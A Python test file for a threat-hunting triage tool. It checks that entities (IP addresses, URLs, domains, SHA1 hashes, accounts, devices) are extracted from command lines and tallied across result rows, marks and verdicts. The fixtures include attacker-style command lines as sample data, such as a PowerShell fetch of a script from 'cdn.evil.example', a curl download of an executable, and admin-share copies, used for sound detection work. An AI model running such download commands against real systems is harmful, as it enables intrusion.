"""Entities within texts, the pivots that fit them, and those that runs and marks of a session hold."""

from __future__ import annotations

from datetime import UTC, datetime

import pyarrow as pa
import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.hostile import STRINGS
from tui.library.catalogue import load_catalogue
from tui.results.store import ResultStore
from tui.triage.entities import entities_in, indicator_pivots, text_pivots
from tui.triage.indicators import Indicator, IndicatorType
from tui.triage.pivots import host_of
from tui.triage.records.model import Mark, Verdict
from tui.triage.session_entities import entities_of, rows_holding

SHA1 = "da39a3ee5e6b4b0d3255bfef95601890afd80709"
MOMENT = datetime(2026, 11, 21, 3, tzinfo=UTC)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("ping -n 1 10.1.2.3", ["address 10.1.2.3"]),
        ("curl http://203.0.113.9:8080/a?b=c -o x.exe", ["url http://203.0.113.9:8080/a?b=c", "address 203.0.113.9"]),
        ("iwr 'https://cdn.evil.example/x.ps1'", ["url https://cdn.evil.example/x.ps1", "domain cdn.evil.example"]),
        ("net use z: \\\\fs01\\finance /user:corp\\j.doe", ["device fs01"]),
        ("copy \\\\10.9.8.7\\c$\\x .", ["address 10.9.8.7"]),
        (f"certutil -hashfile a.dll {SHA1}", [f"sha1 {SHA1}"]),
        (f"{SHA1}.exe", [f"sha1 {SHA1}"]),
        ("nslookup evil.com.", ["domain evil.com"]),
        ("send to ana@acme.example, now", ["account ana@acme.example"]),
        ("psexec S-1-5-21-1-2-3-1001", ["account S-1-5-21-1-2-3-1001"]),
        ("mstsc /v:dc01.corp.example:3389", ["domain dc01.corp.example"]),
        ("ping fe80::1ff:fe23:4567:890a", ["address fe80::1ff:fe23:4567:890a"]),
        ("powershell -c [System.Net.WebClient]::new() ; robocopy.exe a.txt", []),
        ("at 12:30:45 on 127.0.0.1 and 1.2.3.4.5 and 999.1.1.1", []),
        ("", []),
    ],
)
def test_what_stands_within_a_text(text: str, expected: list[str]) -> None:
    assert [f"{one.type} {one.value}" for one in entities_in(text)] == expected


@given(st.text() | st.text(alphabet="a1.:@\\/-%S ehttpxample"))
def test_what_is_found_stands_there_once(text: str) -> None:
    found = entities_in(text)
    assert all(one.value in text and one.value for one in found)
    assert len({(one.type, one.value.lower()) for one in found}) == len(found)


@given(st.ip_addresses(v=4), st.sampled_from([" ", '"', "=", ",", "(", "\t", "/"]))
def test_an_address_is_found_between_whatever_stands_around(address: object, around: str) -> None:
    found = [one.value for one in entities_in(f"x{around}{address}{around}y")]
    assert found == ([] if str(address) in ("127.0.0.1", "0.0.0.0") else [str(address)])


@pytest.mark.parametrize("hostile", STRINGS)
def test_hostile_texts_are_read(hostile: str) -> None:
    assert all(one.value in hostile for one in entities_in(hostile))


@pytest.mark.parametrize(
    ("url", "host"),
    [
        ("https://u:p@evil.example:8443/x", "evil.example"),
        ("evil.example/x", "evil.example"),
        ("evil.example:443", "evil.example"),
        ("http://[2001:db8::1]/x", "2001:db8::1"),
        ("", ""),
    ],
)
def test_the_host_of_a_url(url: str, host: str) -> None:
    assert host_of(url) == host


def test_pivots_fit_what_was_found() -> None:
    pivots = load_catalogue().pivots
    found = text_pivots(
        pivots, f"curl https://evil.example/a --resolve 10.1.2.3 {SHA1} \\\\fs01\\x", "ProcessCommandLine"
    )
    own = [one for one in found if one.hunt.id in ("pivot-domain", "pivot-address", "pivot-hash", "pivot-device")]
    assert [(one.hunt.id, dict(one.values)) for one in own] == [
        ("pivot-domain", {"domain": "evil.example"}),
        ("pivot-address", {"address": "10.1.2.3"}),
        ("pivot-hash", {"hash": SHA1}),
        ("pivot-device", {"device": "fs01"}),
    ]
    assert indicator_pivots(pivots, Indicator(IndicatorType.TEXT, "x")) == []
    file = indicator_pivots(pivots, Indicator(IndicatorType.PATH, "c:\\temp\\x.exe"))
    assert [dict(one.values) for one in file] == [{"file": "x.exe"}]


def test_the_entities_of_runs_and_marks() -> None:
    store = ResultStore(None)
    rows = store.load(
        pa.table(
            {
                "DeviceName": ["WS1", "ws1", "ws2", ""],
                "DeviceId": [SHA1] * 4,
                "RemoteIP": ["10.1.2.3", "10.1.2.3", "10.9.9.9", None],
                "ProcessCommandLine": ["ping 10.1.2.3", "x", "curl http://10.1.2.3/", "10.1.2.3 again"],
                "Count": [1, 2, 3, 4],
            }
        )
    )
    mark = Mark("k", 7, 0, "ana", MOMENT, {"RemoteIP": "10.9.9.9", "DeviceName": "ws3", "Note": "10.9.9.9"})
    verdicts = [
        Verdict("w", "h", "device", "ws1", "WS1", "suspicious", "ana", MOMENT),
        Verdict("w", "h", "account", "ws2", "ws2", "suspicious", "ana", MOMENT),
    ]
    entities, whole = entities_of([(7, rows)], [mark], verdicts)
    assert whole
    by_value = {(one.indicator.type, one.indicator.value.lower()): one for one in entities}
    address = by_value[(IndicatorType.ADDRESS, "10.1.2.3")]
    assert [(one.column, one.rows) for one in address.seen] == [("RemoteIP", 2), ("ProcessCommandLine", 3)]
    assert (address.rows, address.runs, address.marks) == (3, [7], 0)
    for one in address.seen:
        assert len(rows_holding(rows, one.column, address.indicator)) == one.rows
    assert rows_holding(rows, "ProcessCommandLine", address.indicator) == (0, 2, 3)
    device = by_value[(IndicatorType.DEVICE, "ws1")]
    assert (device.rows, device.verdict) == (2, "suspicious")
    assert by_value[(IndicatorType.DEVICE, "ws2")].verdict == ""
    assert (by_value[(IndicatorType.DEVICE, "ws3")].marks, by_value[(IndicatorType.ADDRESS, "10.9.9.9")].marks) == (
        1,
        1,
    )
    assert entities[0].marks == 1
    assert not any(one.indicator.value == SHA1 for one in entities)
    store.close()
